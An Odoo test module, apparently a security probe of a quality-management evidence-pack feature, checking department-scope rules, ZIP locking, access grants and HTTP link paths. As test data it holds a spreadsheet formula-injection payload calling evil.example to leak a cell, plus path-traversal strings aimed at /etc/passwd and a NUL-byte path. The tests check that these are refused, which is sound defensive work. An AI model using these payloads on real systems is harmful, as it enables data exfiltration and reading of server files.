"""The certification evidence pack attacked as a hostile, logged-in API client (``with_user`` is what
XML-RPC ``execute_kw`` reaches) and, over HTTP, as the public holding (or guessing) a link.

The tests named ``test_hole_*`` reproduce what the probe found open (they fail until it is closed); the
others guard what held, each with the rule's own message."""

import base64
import contextlib
import io
import zipfile

from odoo.addons.gov_qms_audit.tests.test_evidence_pack_portal import EvidencePackFixture
from odoo.addons.gov_qms_docs.models.qms_locked_mixin import TRANSITION
from odoo.addons.gov_qms_docs.tests.common import HEAD, MANAGER, TODAY
from odoo.exceptions import AccessError, UserError
from odoo.service.model import get_public_method
from odoo.tests import HttpCase, freeze_time, new_test_user, tagged

from .test_evidence_pack import EvidencePackCase, xlsx_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open the register")'


def formula_cells(xlsx):
    """The number of cells of the first sheet of an XLSX workbook that hold a formula."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode().count("<f>")


@tagged("post_install", "-at_install")
class TestEvidencePackProbe(EvidencePackCase):
    """The head of the Inspection Section (other_head, dB) against the Licensing Section (dA, no head) and the
    QMS office's packs; the auditor, the document controller, a clerk and a portal user."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        for user in (cls.other_head, cls.controller, cls.clerk):
            user.company_ids = [(4, cls.co.id)]
        cls.HeadPack = cls.env["qms.evidence.pack"].with_user(cls.other_head).with_company(cls.co)
        cls.external = cls.env["res.partner"].create({"name": "Ruth Fischer", "email": "ruth@certbody.example"})

    def head_pack(self, **values):
        return self.make_pack(self.HeadPack, department_ids=[(6, 0, self.dB.ids)], **values)

    def names_in(self, pack):
        with self.zip_of(pack) as archive:
            return set(archive.namelist())

    # ------------------------------------------------------------------ holes

    def test_hole_head_pack_supersedes_the_qms_office_pack(self):
        """A head's build marks the QMS office's pack of the same scope superseded, a pack the head may not
        change (the write rule: the packs they asked for)."""
        office = self.make_pack(department_ids=[(6, 0, self.dB.ids)])
        office.action_build()
        self.assertFalse(office.with_user(self.other_head).has_access("write"))
        with contextlib.suppress(UserError):  # refusing the head's build would close it too
            self.head_pack().action_build()
        self.assertEqual((office.state, office.superseded_by_id.id), ("ready", False),
                         "the office's pack is not the head's to supersede")

    def test_hole_head_reads_a_pack_spanning_another_department(self):
        """The QMS office's pack of Licensing and Inspection is read by the head of Inspection alone, with its
        ZIP: Licensing's NC evidence, audit report and procedure, which the head cannot read otherwise."""
        pack = self.make_pack(department_ids=[(6, 0, (self.dA | self.dB).ids)])
        pack.action_build()
        self.assertIn(f"capa/{self.nc1.name}/{self.nc1_file.id}_refund_receipt.pdf", self.names_in(pack))
        self.env.invalidate_all()
        with self.assertRaises(AccessError):
            self.nc1_file.with_user(self.other_head).read(["raw"])
        with self.assertRaises(AccessError):
            pack.with_user(self.other_head).read(["name"])
        with self.assertRaises(AccessError):
            pack.attachment_id.with_user(self.other_head).read(["raw"])

    def test_hole_company_of_a_pack_moves(self):
        """A head moves their pack to a company they do not belong to; the departments of a pack are not
        checked against its company."""
        foreign = self.env["res.company"].create({"name": "Foreign City"})
        pack = self.head_pack()
        with self.assertRaises(UserError):  # ValidationError included
            pack.write({"company_id": foreign.id})

    def test_hole_departments_of_another_company(self):
        self.qms_manager.company_ids = [(4, self.company.id)]
        Pack = self.Pack.with_context(allowed_company_ids=[self.co.id, self.company.id])
        with self.assertRaises(UserError):  # ValidationError included
            self.make_pack(Pack, department_ids=[(6, 0, self.section.ids)])  # the demo company's section

    def test_hole_scope_of_a_queued_pack_changes(self):
        """Queued (building), the pack's period, clauses and name still change: the job builds another pack
        than the one queued, and a change during the job leaves a manifest whose scope is not its contents."""
        self.co.qms_evidence_pack_async_files = 1
        pack = self.head_pack()
        pack.action_build()
        self.assertEqual(pack.state, "building")
        for vals in ({"date_to": "2026-12-31"}, {"clause_ids": [(6, 0, self.clause_doc_control.ids)]}):
            with self.subTest(vals=vals), self.assertRaises(UserError):
                pack.write(vals)

    def test_hole_register_cells_become_formulas(self):
        """Any employee's NC title lands in the CAPA register of the pack as a live spreadsheet formula."""
        nc = self.env["qms.nonconformity"].with_user(self.clerk).with_company(self.co).create({
            "title": FORMULA, "department_id": self.dB.id, "date_detected": "2026-03-01", "company_id": self.co.id})
        pack = self.make_pack(department_ids=[(6, 0, self.dB.ids)])
        pack.action_build()
        with self.zip_of(pack) as archive:
            register = archive.read("capa/register.xlsx")
        self.assertIn(nc.name, xlsx_text(zipfile.ZipFile(io.BytesIO(register))))
        self.assertEqual(formula_cells(register), 0, "a title is text, never a formula")
        document = self.env["qms.document"].sudo().create({
            "name": FORMULA, "tier": "procedure", "department_id": self.dB.id, "company_id": self.co.id,
            "owner_id": self.author.id})
        self.assertEqual(formula_cells(document._qms_master_list_xlsx()), 0, "the master list too")

    def test_hole_pack_zip_gets_a_public_access_token(self):
        """The ZIP gets an ir.attachment access token: /web/content/<id>?access_token=... then serves it to anyone,
        without a grant, an expiry date, a revocation or the access log (see the HTTP probe)."""
        pack = self.head_pack()
        pack.action_build()
        for user in (self.other_head, self.qms_manager):
            with self.subTest(user=user.login), self.assertRaises(UserError):
                pack.attachment_id.with_user(user).generate_access_token()

    # ------------------------------------------------------------------ what held: the scope

    def test_head_scope_through_every_x2many_command(self):
        dA, dB = self.dA, self.dB
        outside = "Test Licensing is not one of the departments you head"
        whole = "a pack of the whole organisation is prepared by the QMS office"
        with self.assertRaisesRegex(UserError, outside):
            self.make_pack(self.HeadPack, department_ids=[(4, dB.id), (4, dA.id)])
        with self.assertRaisesRegex(UserError, whole):
            self.make_pack(self.HeadPack)
        pack = self.head_pack()
        for command, message in (([(4, dA.id)], outside), ([(6, 0, [dA.id, dB.id])], outside), ([(6, 0, [])], whole),
                                 ([(5,)], whole), ([(3, dB.id)], whole), ([(2, dB.id)], whole)):
            with self.subTest(command=command), self.assertRaisesRegex(UserError, message):
                pack.write({"department_ids": command})
        # new or changed departments: a head creates and changes none (and cannot pull Licensing under Inspection)
        for command in ([(4, dB.id), (0, 0, {"name": "Mine", "company_id": self.co.id, "child_ids": [(4, dA.id)]})],
                        [(4, dB.id), (1, dB.id, {"child_ids": [(4, dA.id)]})]):
            with self.subTest(command=command), self.assertRaisesRegex(AccessError, "hr.department"):
                pack.write({"department_ids": command})
        self.assertFalse(dA.parent_id)
        self.assertEqual(pack.department_ids, dB)
        # the document controller heads nothing: no pack
        Controller = self.env["qms.evidence.pack"].with_user(self.controller).with_company(self.co)
        with self.assertRaisesRegex(UserError, "Test Inspection is not one of the departments you head"):
            self.make_pack(Controller, department_ids=[(6, 0, dB.ids)])

    def test_workflow_fields_are_not_written(self):
        pack = self.head_pack()
        for name, value in (("state", "ready"), ("attachment_id", self.nc1_file.id), ("zip_sha256", "0" * 64),
                            ("manifest_sha256", "0" * 64), ("verify_result", "Verified"), ("verify_ok", True),
                            ("files_done", 3), ("superseded_by_id", pack.id), ("requested_by_id", self.qms_manager.id),
                            ("built_by_id", self.qms_manager.id)):
            with self.subTest(field=name):
                with self.assertRaisesRegex(UserError, "workflow"):
                    pack.write({name: value})
                with self.assertRaisesRegex(UserError, "set by the workflow, not when creating it"):
                    self.head_pack(**{name: value})

    def test_build_only_in_draft_and_only_by_its_requester(self):
        office = self.make_pack(department_ids=[(6, 0, self.dB.ids)])
        with self.assertRaisesRegex(UserError, "Only Wang QMS Office, who asked for 2026 surveillance, or the QMS "
                                               "office can build it"):
            office.with_user(self.other_head).action_build()
        pack = self.head_pack()
        pack.action_build()
        with self.assertRaisesRegex(UserError, "is Ready: this step is not possible now"):
            pack.action_build()
        with self.assertRaisesRegex(UserError, "can no longer be changed: it is Ready"):
            pack.write({"name": "renamed"})
        with self.assertRaises(AccessError):
            pack.unlink()

    def test_head_pack_holds_no_audit_of_another_department(self):
        """An audit of Licensing and Inspection together stays out of Inspection's pack (its report and findings
        speak of Licensing)."""
        joint = self.env["qms.audit"].sudo().create({
            "lead_auditor_id": self.audit1.lead_auditor_id.id, "company_id": self.co.id,
            "department_ids": [(6, 0, (self.dA | self.dB).ids)], "date_start": "2026-04-10",
            "date_end": "2026-04-11", "clause_ids": [(6, 0, self.clause_doc_control.ids)]})
        pack = self.head_pack()
        pack.action_build()
        names = self.names_in(pack)
        self.assertFalse([name for name in names if joint.name in name], sorted(names))

    def test_no_foreign_file_is_planted_as_nc_evidence(self):
        """The pack copies closed NCs' evidence with the superuser: a head may not link a file they cannot read
        (another section's evidence, the whole organisation's ZIP) as their NC's evidence."""
        office = self.make_pack()
        office.action_build()
        open_nc = self.env["qms.nonconformity"].sudo().create({
            "title": "Open in Licensing", "department_id": self.dA.id, "date_detected": "2026-03-01",
            "company_id": self.co.id})
        secret = self.env["ir.attachment"].create({"name": "secret.pdf", "raw": b"%PDF Licensing only",
                                                   "res_model": open_nc._name, "res_id": open_nc.id})
        nc = self.env["qms.nonconformity"].with_user(self.other_head).with_company(self.co).create({
            "title": "Planted", "department_id": self.dB.id, "date_detected": "2026-03-01", "company_id": self.co.id})
        nc.action_triage_correction()
        refused = "Failed to write field qms.nonconformity.evidence_attachment_ids"
        for attachment in (secret, office.attachment_id):
            with self.subTest(attachment=attachment.name), self.assertRaisesRegex(AccessError, refused):
                nc.write({"containment_description": "done", "evidence_attachment_ids": [(4, attachment.id)]})

    # ------------------------------------------------------------------ what held: the ZIP

    def test_the_zip_of_a_ready_pack_stays_as_built(self):
        pack = self.head_pack()
        pack.action_build()
        zip_file = pack.attachment_id.with_user(self.other_head)
        locked = "evidence of 2026 surveillance, which is locked"
        for vals in ({"datas": base64.b64encode(b"forged")}, {"raw": b"forged"}, {"name": "other.zip"},
                     {"res_id": self.nc3.id}, {"res_model": "qms.nonconformity"}):
            with self.subTest(vals=list(vals)), self.assertRaisesRegex(UserError, locked):
                zip_file.write(vals)
        with self.assertRaisesRegex(UserError, locked):
            zip_file.unlink()
        Attachment = self.env["ir.attachment"].with_user(self.other_head)
        with self.assertRaisesRegex(UserError, locked):
            Attachment.create({"name": "extra.pdf", "raw": b"%PDF", "res_model": pack._name, "res_id": pack.id})
        mine = Attachment.create({"name": "mine.pdf", "raw": b"%PDF", "res_model": "qms.nonconformity",
                                  "res_id": self.nc3.id})
        with self.assertRaisesRegex(UserError, locked):
            mine.write({"res_model": pack._name, "res_id": pack.id})
        pack.action_verify()
        self.assertTrue(pack.verify_ok)

    def test_another_departments_pack_is_not_read(self):
        office = self.make_pack()
        office.action_build()
        Attachment = self.env["ir.attachment"].with_user(self.other_head).with_company(self.co)
        self.assertFalse(Attachment.search([("id", "=", office.attachment_id.id)]))
        self.assertFalse(Attachment.search([("res_model", "=", office._name), ("res_id", "=", office.id)]))
        self.env.invalidate_all()
        with self.assertRaises(AccessError):
            office.attachment_id.with_user(self.other_head).read(["datas"])
        with self.assertRaises(AccessError):
            office.with_user(self.other_head).action_verify()
        with self.assertRaisesRegex(AccessError, "not allowed to access 'Certification Evidence Pack'"):
            office.with_user(self.clerk).action_verify()

    def test_portal_user_reaches_nothing(self):
        portal = new_test_user(self.env, login="probe_portal", groups="base.group_portal", company_id=self.co.id,
                               company_ids=[(6, 0, self.co.ids)])
        for model in ("qms.evidence.pack", "qms.evidence.pack.grant", "qms.evidence.pack.access",
                      "qms.evidence.pack.wizard"):
            with self.subTest(model=model), self.assertRaisesRegex(AccessError, "You are not allowed to access"):
                self.env[model].with_user(portal).search([])
        with self.assertRaisesRegex(AccessError, "You are not allowed to access 'Certification Evidence Pack'"):
            self.env["ir.attachment"].with_user(portal).search([("res_model", "=", "qms.evidence.pack")])

    # ------------------------------------------------------------------ what held: the entry points

    def test_wizard_programme_and_cron(self):
        Wizard = self.env["qms.evidence.pack.wizard"]
        values = {"name": "x", "date_from": "2026-01-01", "date_to": "2026-06-30"}
        for user in (self.other_head, self.auditor, self.clerk):
            with self.subTest(user=user.login), self.assertRaisesRegex(
                    AccessError, "not allowed to create 'Prepare Certification Evidence'"):
                Wizard.with_user(user).with_company(self.co).create(values)
        foreign = self.env["res.company"].create({"name": "Foreign City"})
        programme = self.env["qms.audit.programme"].create({"year": 2026, "company_id": foreign.id})
        wizard = Wizard.with_user(self.qms_manager).with_company(self.co).create(
            {**values, "programme_id": programme.id})
        with self.assertRaisesRegex(AccessError, "Access to unauthorized or invalid companies"):
            wizard.action_confirm()
        self.assertFalse(self.env["qms.evidence.pack"].search([("company_id", "=", foreign.id)]))
        # the programme's button only opens the wizard, which the QMS office alone may use
        action = self.programme.with_user(self.other_head).action_prepare_evidence()
        self.assertEqual(action["res_model"], "qms.evidence.pack.wizard")
        for method in ("_cron_build_packs", "_qms_build", "_qms_plan", "_qms_store_zip"):
            with self.subTest(method=method), self.assertRaisesRegex(AccessError, "Private methods"):
                get_public_method(self.HeadPack, method)

    # ------------------------------------------------------------------ what held: the grants and their log

    def test_grants_and_their_log(self):
        pack = self.make_pack(department_ids=[(6, 0, self.dB.ids)])
        pack.action_build()
        Grant = self.env["qms.evidence.pack.grant"]
        values = {"pack_id": pack.id, "partner_id": self.external.id, "date_expiry": "2026-12-31"}
        for user in (self.other_head, self.auditor):
            with self.subTest(user=user.login), self.assertRaisesRegex(
                    AccessError, "Only the QMS office grants and revokes access to evidence packs"):
                Grant.with_user(user).with_company(self.co).create(values)
        grant = Grant.with_user(self.qms_manager).with_company(self.co).create(values)
        token = grant.sudo().token
        template = self.env.ref("gov_qms_audit.mail_template_evidence_pack_grant")
        self.env.invalidate_all()
        for user in (self.other_head, self.auditor):
            mine = grant.with_user(user).with_company(self.co)
            with self.subTest(user=user.login):
                self.assertEqual(mine.partner_id, self.external, "they read the grant")
                for domain in ([("token", "=", token)], [("token", "=like", token[:1] + "%")]):
                    with self.assertRaisesRegex(AccessError, 'access the field "token"'):
                        Grant.with_user(user).with_company(self.co).search(domain)
                with self.assertRaisesRegex(AccessError, 'access the field "token"'):
                    Grant.with_user(user).with_company(self.co).search([], order="token")
                with self.assertRaisesRegex(AccessError, 'access the field "token"'):
                    Grant.with_user(user).with_company(self.co).formatted_read_group([], ["token"], ["__count"])
                with self.assertRaisesRegex(AccessError, 'access the field "url"'):
                    mine.read(["url"])
                # the link's mail template, rendered through the composer (which renders templates as superuser)
                with self.assertRaisesRegex(UserError, 'access the field "url"'):
                    composer = self.env["mail.compose.message"].with_user(user).with_company(self.co).with_context(
                        default_model=grant._name, default_res_ids=grant.ids).create({
                            "template_id": template.id, "composition_mode": "comment", "model": grant._name,
                            "res_ids": str(grant.ids)})
                    self.assertNotIn(token, composer.body)
                with self.assertRaisesRegex(AccessError, "Only the QMS office grants and revokes access"):
                    mine.action_open_revoke_wizard()
                with self.assertRaisesRegex(AccessError, "not allowed to delete 'Evidence Pack Access Grant'"):
                    mine.unlink()
                with self.assertRaisesRegex(AccessError, "not allowed to modify 'Evidence Pack Access Grant'"):
                    mine.write({"access_ids": [(0, 0, {"result": "allowed", "ip_address": "203.0.113.9"})]})
        office = grant.with_user(self.qms_manager)
        with self.assertRaisesRegex(UserError, "change only through the workflow"):
            office.write({"date_revoked": "2026-12-01 00:00:00"})
        with self.assertRaisesRegex(UserError, "written by its link only"):
            office.write({"access_ids": [(0, 0, {"result": "allowed", "ip_address": "203.0.113.9"})]})
        with self.assertRaisesRegex(UserError, "can no longer be changed: it is Ready"):
            pack.with_user(self.qms_manager).write({"grant_ids": [(1, grant.id, {"date_expiry": "2027-01-31"})]})
        self.assertEqual(grant.sudo().token, token)
        self.assertEqual(grant.state, "active")


@tagged("post_install", "-at_install", "qms_ui")
class TestEvidencePackProbeHttp(EvidencePackFixture, HttpCase):
    """Over HTTP: the pack's ZIP through /web/content, and more paths on the certification body's link."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager = new_test_user(cls.env, login="probe_manager", groups=MANAGER, name="Probe Manager")
        cls.head_a = new_test_user(cls.env, login="probe_head_a", groups=HEAD, name="Probe Head A")
        cls.head_b = new_test_user(cls.env, login="probe_head_b", groups=HEAD, name="Probe Head B")
        Department = cls.env["hr.department"]
        cls.dep_a = Department.create({"name": "Probe A"})
        cls.dep_b = Department.create({"name": "Probe B"})
        for user, department in ((cls.head_a, cls.dep_a), (cls.head_b, cls.dep_b)):
            department.manager_id = cls.env["hr.employee"].create({
                "name": user.name, "user_id": user.id, "department_id": department.id})
        cls.pack_a = cls.make_ready_pack(cls.env, "Pack A", department=cls.dep_a)
        cls.pack_a.with_context(qms_transition=TRANSITION).write({"requested_by_id": cls.head_a.id})
        cls.external = cls.make_external_auditor(cls.env)

    def grant(self):
        grant = self.env["qms.evidence.pack.grant"].with_user(self.manager).create({
            "pack_id": self.pack_a.id, "partner_id": self.external.id, "date_expiry": "2026-12-31"})
        return grant, grant.sudo().token

    def test_hole_a_public_link_to_the_zip_outside_the_grants(self):
        zip_a = self.pack_a.attachment_id
        try:
            token = zip_a.with_user(self.head_a).generate_access_token()[0]
        except UserError:
            return  # refused: the ZIP leaves the database through a grant only
        response = self.url_open(f"/web/content/{zip_a.id}?access_token={token}&download=true", allow_redirects=False)
        self.assertNotEqual(response.status_code, 200, "the whole pack, to anyone, for ever, unlogged")

    def test_hole_a_nul_in_the_path_is_a_server_error(self):
        with freeze_time(TODAY, tick=True):
            grant, token = self.grant()
            response = self.url_open(f"/qms/evidence/{token}/index.html%00.pdf", allow_redirects=False)
            self.assertEqual(response.status_code, 404, "a clear refusal, not a server error")
        self.env.invalidate_all()
        self.assertEqual(grant.access_ids.mapped("result"), ["unknown_file"], "and the attempt is logged")

    def test_zip_not_served_by_web_content_without_the_right(self):
        zip_a = self.pack_a.attachment_id
        response = self.url_open(f"/web/content/{zip_a.id}?download=true", allow_redirects=False)
        self.assertEqual(response.status_code, 404)
        self.authenticate("probe_head_b", "probe_head_b")
        for path in (f"/web/content/{zip_a.id}", f"/web/content/ir.attachment/{zip_a.id}/datas",
                     f"/web/content/qms.evidence.pack/{self.pack_a.id}/name"):
            with self.subTest(path=path):
                response = self.url_open(path, allow_redirects=False)
                self.assertEqual(response.status_code, 404)
                self.assertNotEqual(response.content, zip_a.raw)
        self.authenticate("probe_head_a", "probe_head_a")
        self.assertEqual(self.url_open(f"/web/content/{zip_a.id}").content, zip_a.raw, "its head downloads it")

    def test_more_paths_and_methods_on_the_link(self):
        with freeze_time(TODAY, tick=True):
            grant, token = self.grant()
            base = f"/qms/evidence/{token}/"
            for raw in ("%252e%252e/%252e%252e/etc/passwd", "documents/%2e%2e/manifest.xml", "..;/manifest.xml",
                        "INDEX.HTML", "index.html/", "documents/master_list.pdf%20", "%ff%fe", "b_only/secret.pdf"):
                with self.subTest(path=raw):
                    response = self.url_open(base + raw, allow_redirects=False)
                    self.assertEqual(response.status_code, 404, raw)
                    self.assertIn(b"There is nothing here", response.content)
            for method in ("POST", "PUT", "DELETE"):
                with self.subTest(method=method):
                    response = self.opener.request(method, self.base_url() + base, allow_redirects=False, timeout=10)
                    self.assertEqual(response.status_code, 405)
            # a superseded pack stays served (by design, until the grant ends), the ZIP included
            self.pack_a.with_context(qms_transition=TRANSITION).write({"state": "superseded"})
            response = self.url_open(base + "pack.zip", allow_redirects=False)
            self.assertEqual(response.status_code, 200)
            self.assertEqual(response.content, self.pack_a.attachment_id.raw)
        self.env.invalidate_all()
        self.assertEqual(set(grant.access_ids.mapped("result")), {"unknown_file", "allowed"})
